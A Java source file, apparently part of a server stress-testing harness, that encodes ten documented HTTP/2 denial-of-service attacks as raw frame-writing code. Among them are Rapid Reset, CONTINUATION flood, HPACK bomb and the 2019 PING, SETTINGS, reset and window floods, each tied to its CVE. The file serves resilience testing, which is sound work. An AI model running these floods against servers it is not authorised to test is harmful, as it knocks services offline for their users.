package stress;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Map;

import static stress.H2Malformed.DATA;
import static stress.H2Malformed.END_HEADERS;
import static stress.H2Malformed.END_STREAM;
import static stress.H2Malformed.HEADERS;
import static stress.H2Malformed.PING;
import static stress.H2Malformed.SETTINGS;
import static stress.H2Malformed.WINDOW_UPDATE;
import static stress.H2Malformed.frame;

/**
 * The HTTP/2 denial-of-service attacks of record as data, each one {@code stress} scenario ({@link H2Attack} runs
 * them all the same way): its id, its advisory, one sentence of what the attacking client does, the SETTINGS it opens
 * with, whether it reads what the server sends (several of the 2019 attacks work by never reading), and the code that
 * writes its frames, one batch at a time, and answers the server's frames where the attack needs it. The frames are
 * raw bytes through {@link H2Malformed#frame}: no codec would write them.
 */
final class H2Attacks {

    static final int PRIORITY = 0x2;
    static final int RST_STREAM = 0x3;
    static final int CONTINUATION = 0x9;
    static final int CANCEL = 0x8;
    /** SETTINGS_ENABLE_PUSH and SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113, 6.5.2). */
    static final int ENABLE_PUSH = 0x2;
    static final int INITIAL_WINDOW_SIZE = 0x4;
    static final int MAX_WINDOW = Integer.MAX_VALUE;
    /** Frames of one kind per batch in a flood: enough that one write carries many, few enough to stop in time. */
    static final int BATCH = 128;
    /** Streams the window attacks open, at most: each waits on the server's side with its page unsent. */
    static final int WINDOW_STREAMS = 100;

    /** What the attacker knows of its connection: the server's frame size limit and the streams it opened so far. */
    static final class Target {
        final boolean tls;
        final String authority;
        final int maxFrame;
        private int nextStream = 1;
        private long batches;

        Target(boolean tls, String authority, int maxFrame) {
            this.tls = tls;
            this.authority = authority;
            this.maxFrame = maxFrame;
        }

        /** A new client stream's id (odd, rising, as RFC 9113, 5.1.1 wants). */
        int newStream() {
            int s = nextStream;
            nextStream += 2;
            return s;
        }

        int streamsOpened() {
            return nextStream / 2;
        }

        /** Whether this is the attack's first batch (then counted). */
        boolean first() {
            return batches++ == 0;
        }
    }

    /** The frames of the next batch (empty: nothing to send now, the runner waits a little). */
    interface Frames {
        byte[] next(Target t);
    }

    /** The attacker's answer to a frame the server sent (empty: none). */
    interface Reply {
        byte[] to(H2Malformed.Frame f);
    }

    static final Reply NO_REPLY = f -> new byte[0];

    /**
     * One attack: {@code settings} are sent in the attacker's SETTINGS after the preface; {@code reads} says whether
     * it reads the server's frames while it attacks (if not, what the server said is read once the attack is over).
     */
    record Attack(String id, String advisory, String does, Map<Integer, Integer> settings, boolean reads,
                  Frames frames, Reply reply) {
    }

    static final Attack RAPID_RESET = new Attack("h2-rapid-reset", "CVE-2023-44487",
            "opens streams (a GET of /stocks each) and cancels each at once with RST_STREAM, so that the limit on"
                    + " concurrent streams never binds while the server starts a page for every one", Map.of(), true,
            t -> repeat(BATCH / 2, () -> {
                int s = t.newStream();
                return concat(frame(HEADERS, END_HEADERS | END_STREAM, s, request(t, "/stocks")),
                        frame(RST_STREAM, 0, s, int32(CANCEL)));
            }), NO_REPLY);

    static final Attack CONTINUATION_FLOOD = new Attack("h2-continuation", "CVE-2024-27316 and others (April 2024)",
            "sends a HEADERS frame without END_HEADERS, then CONTINUATION frames without end, each full of header"
                    + " fields, so that the server buffers or decodes one header block that never ends",
            Map.of(), true, t -> t.first() ? frame(HEADERS, END_STREAM, t.newStream(), request(t, "/stocks"))
                    : frame(CONTINUATION, 0, 1, fill(t.maxFrame, literal(0x00, "x-c", "a".repeat(120)))),
            NO_REPLY);

    static final Attack HPACK_BOMB = new Attack("h2-hpack-bomb", "CVE-2016-6581",
            "puts one 4,000-byte header field in the HPACK dynamic table, then refers to it in one-byte references"
                    + " filling each header block, so that some 16 KB decode to some 48 MB of fields, a stream after"
                    + " another", Map.of(), true,
            t -> frame(HEADERS, END_HEADERS | END_STREAM, t.newStream(), bomb(t, t.maxFrame)), NO_REPLY);

    static final Attack PING_FLOOD = new Attack("h2-ping-flood", "CVE-2019-9512",
            "sends PING frames without pause and never reads, so that the server queues a PING ACK for each",
            Map.of(), false, t -> repeat(BATCH, () -> frame(PING, 0, 0, new byte[8])), NO_REPLY);

    static final Attack SETTINGS_FLOOD = new Attack("h2-settings-flood", "CVE-2019-9515",
            "sends SETTINGS frames without pause and never reads, so that the server applies and acknowledges each",
            Map.of(), false, t -> repeat(BATCH, () -> frame(SETTINGS, 0, 0, setting(ENABLE_PUSH, 0))), NO_REPLY);

    static final Attack RESET_FLOOD = new Attack("h2-reset-flood", "CVE-2019-9514",
            "opens streams with requests that lack :path (malformed, a stream error) and never reads, so that the"
                    + " server queues an RST_STREAM (or an error answer) for each", Map.of(), false,
            t -> repeat(BATCH / 2, () -> frame(HEADERS, END_HEADERS | END_STREAM, t.newStream(), noPath(t))),
            NO_REPLY);

    static final Attack EMPTY_FRAMES = new Attack("h2-empty-frames", "CVE-2019-9518",
            "opens a stream (a GET left open) and sends empty DATA frames on it without END_STREAM, without pause",
            Map.of(), true, t -> t.first() ? frame(HEADERS, END_HEADERS, t.newStream(), request(t, "/stocks"))
                    : repeat(BATCH, () -> frame(DATA, 0, 1, new byte[0])), NO_REPLY);

    static final Attack ZERO_LENGTH_HEADERS = new Attack("h2-zero-length-headers", "CVE-2019-9516",
            "sends header blocks full of fields with an empty name and an empty value, each to be added to the"
                    + " HPACK dynamic table, a stream after another", Map.of(), true,
            t -> frame(HEADERS, END_HEADERS | END_STREAM, t.newStream(), concat(request(t, "/stocks"),
                    fill(t.maxFrame - request(t, "/stocks").length, new byte[] {0x40, 0, 0}))), NO_REPLY);

    static final Attack DATA_DRIBBLE = new Attack("h2-data-dribble", "CVE-2019-9511",
            "sets every stream's window to 1 byte, opens " + WINDOW_STREAMS + " streams (a GET of /stocks each) and"
                    + " hands back each byte as it comes, so that the server sends and queues its pages a byte at a"
                    + " time", Map.of(INITIAL_WINDOW_SIZE, 1), true,
            t -> t.streamsOpened() < WINDOW_STREAMS
                    ? frame(HEADERS, END_HEADERS | END_STREAM, t.newStream(), request(t, "/stocks")) : new byte[0],
            f -> f.type() == DATA && f.payload().length > 0 ? concat(frame(WINDOW_UPDATE, 0, f.stream(),
                    int32(f.payload().length)), frame(WINDOW_UPDATE, 0, 0, int32(f.payload().length))) : new byte[0]);

    static final Attack INTERNAL_BUFFERING = new Attack("h2-internal-buffering", "CVE-2019-9517",
            "opens the HTTP/2 windows wide (2^31-1 bytes), opens " + WINDOW_STREAMS + " streams (a GET of /stocks"
                    + " each) and never reads, so that TCP's window closes and the server must hold its answers",
            Map.of(INITIAL_WINDOW_SIZE, MAX_WINDOW), false,
            t -> t.first() ? concat(frame(WINDOW_UPDATE, 0, 0, int32(MAX_WINDOW - 65_535)),
                    frame(HEADERS, END_HEADERS | END_STREAM, t.newStream(), request(t, "/stocks")))
                    : t.streamsOpened() < WINDOW_STREAMS
                    ? frame(HEADERS, END_HEADERS | END_STREAM, t.newStream(), request(t, "/stocks")) : new byte[0],
            NO_REPLY);

    static final Attack RESOURCE_LOOP = new Attack("h2-resource-loop", "CVE-2019-9513",
            "opens " + 20 + " streams (a GET of /stocks each), then sends PRIORITY frames without pause that move"
                    + " each of them under another, exclusively, so that the server rebuilds its priority tree",
            Map.of(), true, t -> t.first() ? repeat(20, () -> frame(HEADERS, END_HEADERS | END_STREAM,
                    t.newStream(), request(t, "/stocks"))) : reprioritise(20), NO_REPLY);

    private H2Attacks() {
    }

    /**
     * A GET of {@code path} as an HPACK block: :method GET and :scheme from the static table, :path and :authority
     * as literals without indexing (so that a flood of them leaves the dynamic table alone).
     */
    static byte[] request(Target t, String path) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.write(0x82);
        b.write(t.tls ? 0x87 : 0x86);
        b.writeBytes(literal(0x04, null, path));
        b.writeBytes(literal(0x01, null, t.authority));
        return b.toByteArray();
    }

    /** A request without :path: malformed (RFC 9113, 8.3.1), which the server must refuse on its stream. */
    static byte[] noPath(Target t) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.write(0x82);
        b.write(t.tls ? 0x87 : 0x86);
        b.writeBytes(literal(0x01, null, t.authority));
        return b.toByteArray();
    }

    /** The bomb's 4,000-byte value: with its name and HPACK's 32 bytes, 4,038 of the table's default 4,096. */
    static final int BOMB_VALUE = 4000;

    /**
     * A request, then the bomb's field added to the dynamic table (a literal with incremental indexing), then
     * one-byte references to it (index 62, the newest entry) up to {@code size} bytes in all.
     */
    static byte[] bomb(Target t, int size) {
        byte[] head = concat(request(t, "/stocks"), literal(0x40, "x-bomb", "b".repeat(BOMB_VALUE)));
        return concat(head, fill(size - head.length, new byte[] {(byte) (0x80 | 62)}));
    }

    /** PRIORITY frames moving each of the first {@code streams} streams exclusively under the next one. */
    private static byte[] reprioritise(int streams) {
        return repeat(BATCH, new java.util.function.Supplier<>() {
            private int i;

            @Override
            public byte[] get() {
                int s = 2 * (i % streams) + 1;
                int parent = 2 * ((i + 1) % streams) + 1;
                i++;
                return frame(PRIORITY, 0, s, ByteBuffer.allocate(5).putInt(0x8000_0000 | parent).put((byte) 15)
                        .array());
            }
        });
    }

    /**
     * An HPACK literal field (RFC 7541, 6.2): {@code first} is its first byte, the name's table index in its low bits
     * (or 0 with {@code name} given as a literal), then the name (when given) and value, each with its 7-bit length.
     */
    static byte[] literal(int first, String name, String value) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.write(first);
        if (name != null) {
            string(b, name);
        }
        string(b, value);
        return b.toByteArray();
    }

    private static void string(ByteArrayOutputStream b, String s) {
        byte[] bytes = s.getBytes(StandardCharsets.US_ASCII);
        int n = bytes.length;
        if (n < 127) {
            b.write(n);
        } else {   // the 7-bit prefix full, then the rest in 7-bit groups, lowest first (RFC 7541, 5.1)
            b.write(127);
            n -= 127;
            while (n >= 128) {
                b.write((n & 0x7F) | 0x80);
                n >>>= 7;
            }
            b.write(n);
        }
        b.writeBytes(bytes);
    }

    /** One SETTINGS entry: its id and value. */
    static byte[] setting(int id, int value) {
        return ByteBuffer.allocate(6).putShort((short) id).putInt(value).array();
    }

    static byte[] int32(int value) {
        return ByteBuffer.allocate(4).putInt(value).array();
    }

    /** As many copies of {@code unit} as fit in {@code size} bytes. */
    static byte[] fill(int size, byte[] unit) {
        int n = Math.max(0, size / unit.length);
        ByteBuffer b = ByteBuffer.allocate(n * unit.length);
        for (int i = 0; i < n; i++) {
            b.put(unit);
        }
        return b.array();
    }

    private static byte[] repeat(int n, java.util.function.Supplier<byte[]> one) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        for (int i = 0; i < n; i++) {
            b.writeBytes(one.get());
        }
        return b.toByteArray();
    }

    static byte[] concat(byte[] a, byte[] b) {
        return H2Malformed.concat(a, b);
    }

    /** The frames in {@code bytes}: each a 9-byte header and the payload its length says. */
    static int count(byte[] bytes) {
        int n = 0;
        for (int at = 0; at + 9 <= bytes.length; n++) {
            at += 9 + (((bytes[at] & 0xFF) << 16) | ((bytes[at + 1] & 0xFF) << 8) | (bytes[at + 2] & 0xFF));
        }
        return n;
    }

    /** The SETTINGS payload of {@code settings}, in id order. */
    static byte[] settings(Map<Integer, Integer> settings) {
        return settings.entrySet().stream().sorted(Map.Entry.comparingByKey())
                .map(e -> setting(e.getKey(), e.getValue())).reduce(new byte[0], H2Attacks::concat);
    }
}
